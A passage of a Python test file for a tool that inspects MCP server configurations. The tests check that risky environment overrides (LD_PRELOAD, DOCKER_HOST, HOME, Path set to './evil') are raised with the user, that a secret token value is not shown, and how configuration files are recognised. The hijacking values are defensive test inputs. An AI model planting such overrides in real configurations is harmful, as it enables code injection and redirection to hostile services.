    names = [*telling.split(), "DOCKER_HOST", "HOME", "LD_PRELOAD", "Path"]
    desk.vscode(command="tool", env={**dict.fromkeys(names, "./evil"), "DENO_AUTH_TOKENS": "s3cret", "LANG": "de"})
    await desk.prepare()
    shown = ", ".join(f"{name}=./evil" for name in names)
    assert f"with the environment variables {shown}, DENO_AUTH_TOKENS, LANG" in desk.person.questions[0].splitlines()
    assert "evil" not in desk.told[0]


async def test_a_preview_looks_at_the_disk_beside_the_event_loop(desk: Desk) -> None:
    desk.environ = Watched(desk.environ)
    desk.start()
    desk.vscode(command="tool", args=["${env:LANGUAGE}"])
    assert (await desk.servers.preview(Target(server="it"))).target.args == ("de",)
    assert desk.environ.readers["LANGUAGE"] == {False}


def test_a_configuration_file_is_known_by_its_name_or_looked_up_once(desk: Desk) -> None:
    desk.environ = Watched(desk.environ)
    desk.start()
    desk.environ.readers.clear()
    assert desk.servers.is_place(str(desk.workspace / "deeper/.vscode/mcp.json"))
    assert not desk.environ.readers
    assert desk.servers.is_place(str(desk.workspace / ".vscode/settings.json"))
    assert desk.servers.is_place(str(desk.home / ".claude.json"))
    assert not desk.servers.is_place(str(desk.root / "sub/.vscode/settings.json"))
    desk.environ.readers.clear()
    assert desk.servers.is_place(str(desk.home / ".claude.json"))
    assert not desk.environ.readers
    desk.folders = [Folder(path=desk.root / "sub", name="sub")]
    assert desk.servers.is_place(str(desk.root / "sub/.vscode/settings.json"))
